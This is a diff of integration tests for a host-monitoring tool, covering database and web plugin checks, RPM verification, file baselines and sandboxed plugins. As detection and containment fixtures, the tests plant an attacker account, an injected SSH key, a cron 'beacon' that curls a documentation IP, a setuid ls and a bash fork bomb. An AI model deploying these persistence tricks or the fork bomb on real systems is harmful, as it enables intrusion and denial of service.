@@ -131,8 +131,9 @@ class Databases(CheckTest):
             f"{programs}/postgres", "-D", data, "-k", data, "-h", "127.0.0.1",
             "-p", "5432", "-F"], "postgres").until_it_listens(5432)
         self.passes("tcp", {"port": 5432})
+        # It listens before all of its processes are there.
         self.passes("process", {"name": "postgres", "user": "postgres",
-                                "min": 2})
+                                "min": 2}, attempts=100)
         self.fails("process", {"name": "postgres", "user": "nobody"},
                    "0 of postgres as nobody run")
         plugins = {"db": {"command": ["/usr/bin/pg_isready", "-h",
@@ -243,7 +244,15 @@ http {{
                    **trust)
         self.fails("tls", tls, "(?i)certificate")  # the system's authorities
         self.fails("tls", {**tls, "port": 8080}, "(?i)SSL|TLS", **trust)
+        plugins = {name: {"command": [
+            f"{PLUGINS}/check_http", "-I", "127.0.0.1", "-p", "8080", "-u",
+            path, "-s", "is well"], "user": "nobody"}
+            for name, path in (("ready", "/ready"), ("broken", "/broken"))}
+        reason = self.passes("plugin", {"name": "ready"}, plugins=plugins)
+        self.assertNotIn("|", reason, "performance data is for machines")
+        self.fails("plugin", {"name": "broken"}, "500", plugins=plugins)
         server.stop()
+        self.fails("plugin", {"name": "ready"}, "refused", plugins=plugins)
         self.certificates(days=0)
         time.sleep(1)
         self.nginx()
@@ -320,6 +329,170 @@ class Files(CheckTest):
         with open(sums, "w", encoding="utf-8") as file:
             file.write(text.replace(victim, "0" * 32 + victim[32:]))
         self.fails("packages", {"verify": "true"}, "check_tcp", **real)
+
+
+    def test_rpm_of_a_real_package(self):
+        """Built here, installed under a folder of its own."""
+        top, root = f"{self.folder}/top", f"{self.folder}/root"
+        os.makedirs(root)
+        spec = f"{self.folder}/tool.spec"
+        with open(spec, "w", encoding="utf-8") as file:
+            file.write("Name: tool\nVersion: 1\nRelease: 1\nSummary: t\n"
+                       "License: t\nBuildArch: noarch\n%description\nt\n"
+                       "%install\nmkdir -p %{buildroot}/opt/tool\n"
+                       "echo good > %{buildroot}/opt/tool/program\n"
+                       "echo a=1 > %{buildroot}/opt/tool/settings\n"
+                       "%files\n/opt/tool/program\n"
+                       "%config /opt/tool/settings\n")
+        subprocess.run(["rpmbuild", "-bb", "--quiet", "--define",
+                        f"_topdir {top}", spec], check=True,
+                       capture_output=True)
+        package, = glob.glob(f"{top}/RPMS/noarch/*.rpm")
+        subprocess.run(["rpm", "--root", root, "--install", "--nodeps",
+                        package], check=True, capture_output=True)
+        wrapper = f"{self.folder}/verify"
+        with open(wrapper, "w", encoding="utf-8") as file:
+            file.write(f'#!/bin/sh\nexec rpm --root {root} "$@"\n')
+        os.chmod(wrapper, 0o755)
+        real = {"dpkg": "/no/dpkg", "rpm": wrapper, "timeout_ms": 20000}
+        self.assertIn("weak evidence",
+                      self.passes("packages", {"verify": "true"}, **real))
+        with open(f"{root}/opt/tool/settings", "a", encoding="utf-8") as file:
+            file.write("a=2\n")
+        self.assertIn("1 configuration files are changed",
+                      self.passes("packages", {"verify": "true"}, **real))
+        with open(f"{root}/opt/tool/program", "w", encoding="utf-8") as file:
+            file.write("evil\n")
+        self.fails("packages", {"verify": "true"}, "/opt/tool/program", **real)
+        os.remove(f"{root}/opt/tool/program")
+        self.fails("packages", {"verify": "true"}, "/opt/tool/program", **real)
+
+    def test_an_account_a_key_a_job_and_a_setuid_program(self):
+        root = f"{self.folder}/root"
+        for folder in ("etc/cron.d", "home/eve/.ssh", "usr/bin"):
+            os.makedirs(f"{root}/{folder}")
+        for name in ("passwd", "shadow", "group", "gshadow"):
+            with open(f"{root}/etc/{name}", "w", encoding="utf-8") as file:
+                file.write(f"root:x:0:{'0:root:/root:/bin/sh' * (name == 'passwd')}\n")
+        with open(f"{root}/usr/bin/ls", "w", encoding="utf-8") as file:
+            file.write("program")
+        os.mkdir(f"{self.folder}/kept")
+        more = {"folder": f"{self.folder}/kept", "baselines": {
+            "accounts": {"paths": [f"{root}/etc/{name}" for name in (
+                "passwd", "shadow", "group")]},
+            "keys": {"paths": [f"{root}/home/*/.ssh"]},
+            "cron": {"paths": [f"{root}/etc/cron.d"]},
+            "setuid": {"paths": [f"{root}/usr"], "setuid": True}}}
+        names = sorted(more["baselines"])
+        self.passes("take", {}, **more)
+        for name in names:
+            self.passes("files", {"baseline": name}, **more)
+        subprocess.run(["useradd", "--prefix", root, "mallory"], check=True,
+                       capture_output=True)
+        with open(f"{root}/home/eve/.ssh/authorized_keys", "w",
+                  encoding="utf-8") as file:
+            file.write("ssh-ed25519 AAAA mallory\n")
+        with open(f"{root}/etc/cron.d/beacon", "w", encoding="utf-8") as file:
+            file.write("* * * * * root curl http://192.0.2.1\n")
+        os.chmod(f"{root}/usr/bin/ls", 0o4755)
+        for name, why in {"accounts": "etc/passwd", "keys": "authorized_keys",
+                          "cron": "beacon", "setuid": "usr/bin/ls"}.items():
+            self.fails("files", {"baseline": name}, why, **more)
+
+
+class Plugins(CheckTest):
+    """Debian's own, and those that do not behave."""
+
+    USER = "games"  # nothing else runs as this one
+
+    def plugin(self, *command, user=None, **more):
+        rule = {"command": list(command)}
+        if user:
+            rule["user"] = user
+        return {"plugins": {"it": rule}, **more}
+
+    def script(self, text, name="script"):
+        path = f"{self.folder}/{name}"
+        with open(path, "w", encoding="utf-8") as file:
+            file.write(text)
+        os.chmod(path, 0o755)
+        return path
+
+    def processes_of(self, user):
+        done = subprocess.run(["ps", "-o", "pid=,args=", "-u", user],
+                              check=False, capture_output=True, text=True)
+        return done.stdout.strip()
+
+    def test_of_a_real_package(self):
+        it = {"name": "it"}
+        self.assertIn("DISK OK", self.passes("plugin", it, **self.plugin(
+            f"{PLUGINS}/check_disk", "-w", "0%", "-c", "0%", "-p", "/",
+            user="nobody")))
+        self.fails("plugin", it, "DISK CRITICAL", **self.plugin(
+            f"{PLUGINS}/check_disk", "-c", "100%", "-p", "/"))
+        self.passes("plugin", it, **self.plugin(
+            f"{PLUGINS}/check_procs", "-c", "1:100000", user="nobody"))
+        self.fails("plugin", it, "PROCS CRITICAL", **self.plugin(
+            f"{PLUGINS}/check_procs", "-c", "1:", "-C", "no-such-program"))
+        self.fails("plugin", it, "refused", **self.plugin(
+            f"{PLUGINS}/check_tcp", "-H", "127.0.0.1", "-p", "1"))
+
+    def test_are_tried_again(self):
+        path = self.script(f"#!/bin/sh\necho x >> {self.folder}/count\n"
+                           f'test "$(wc -l < {self.folder}/count)" -ge 3 ||\n'
+                           "{ echo not yet; exit 2; }\necho here\n")
+        self.fails("plugin", {"name": "it"}, r"not yet \(2 attempts\)",
+                   attempts=2, **self.plugin(path))
+        self.passes("plugin", {"name": "it"}, attempts=2, **self.plugin(path))
+
+    def test_run_as_their_user_and_bounded(self):
+        path = self.script(
+            "#!/bin/bash\necho $(id -un) "
+            "$(grep -c '^CapEff:.0*$' /proc/self/status) "
+            "$(grep -c '^NoNewPrivs:.1$' /proc/self/status) "
+            "$(ulimit -v) $(ulimit -u) $(nice) $(env | grep -c SECRET)\n")
+        os.environ["SECRET"] = "x"
+        self.assertEqual(
+            self.passes("plugin", {"name": "it"},
+                        **self.plugin(path, user=self.USER)),
+            f"{self.USER} 1 1 1048576 512 10 0")
+        hungry = self.script("#!/usr/bin/python3\nbytearray(2 << 30)\n")
+        self.inconclusive("plugin", {"name": "it"}, "Traceback",
+                          **self.plugin(hungry, user=self.USER))
+
+    def test_that_print_a_gigabyte(self):
+        self.inconclusive(
+            "plugin", {"name": "it"}, "64 KiB", timeout_ms=10000,
+            **self.plugin("/usr/bin/head", "-c", "1000000000", "/dev/zero"))
+
+    def test_that_hang_and_hear_no_signal_leave_nothing(self):
+        deaf = self.script(
+            "#!/usr/bin/python3\n"
+            "import os, signal, sys, time\n"
+            "for number in range(1, 32):\n"
+            "  try: signal.signal(number, signal.SIG_IGN)\n"
+            "  except (OSError, ValueError): pass\n"
+            "for _ in range(2):\n"  # orphaned twice, a session each
+            "  if os.fork() == 0: os.setsid()\n"
+            "  elif sys.argv[1] == 'leaves': os._exit(0)\n"
+            "time.sleep(987)\n")
+        for how, verdict in (("leaves", self.passes), ("hangs", None)):
+            with self.subTest(how):
+                more = self.plugin(deaf, how, user=self.USER, timeout_ms=1500)
+                if verdict:
+                    verdict("plugin", {"name": "it"}, **more)
+                else:
+                    self.inconclusive("plugin", {"name": "it"}, "was killed",
+                                      **more)
+                self.assertEqual(self.processes_of(self.USER), "")
+
+    def test_that_fork_without_end_are_bounded_and_gone(self):
+        bomb = self.script("#!/bin/bash\nb() { b | b & }\nb\nsleep 987\n")
+        began = time.monotonic()
+        self.inconclusive("plugin", {"name": "it"}, ".", timeout_ms=1500,
+                          **self.plugin(bomb, user=self.USER))
+        print(f"  a fork bomb was gone after {time.monotonic() - began:.1f} s")
+        self.assertEqual(self.processes_of(self.USER), "")
 
 
 class Machine(CheckTest):
